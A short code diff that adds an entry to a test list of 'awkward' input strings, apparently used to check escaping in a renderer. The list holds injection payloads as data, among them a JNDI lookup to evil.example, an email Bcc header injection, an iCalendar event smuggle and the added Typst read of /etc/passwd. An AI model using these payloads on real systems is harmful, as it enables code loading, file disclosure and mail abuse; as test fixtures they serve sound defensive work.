@@ -16,6 +16,7 @@ AWKWARD = (
     "*stars* _lines_ `ticks` ~~waves~~ \\backslash | pipe",
     "&amp; &#60; &lt;",
     '${jndi:ldap://evil.example} {{ 7*7 }} #eval("1")',
+    '#read("/etc/passwd") #import "x.typ": * $ x^2 $ @label <tag> = H ] ) } //',
     "Subject: x\r\nBcc: all@evil.example",
     "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:another",
     "a;b,c:d\\n",
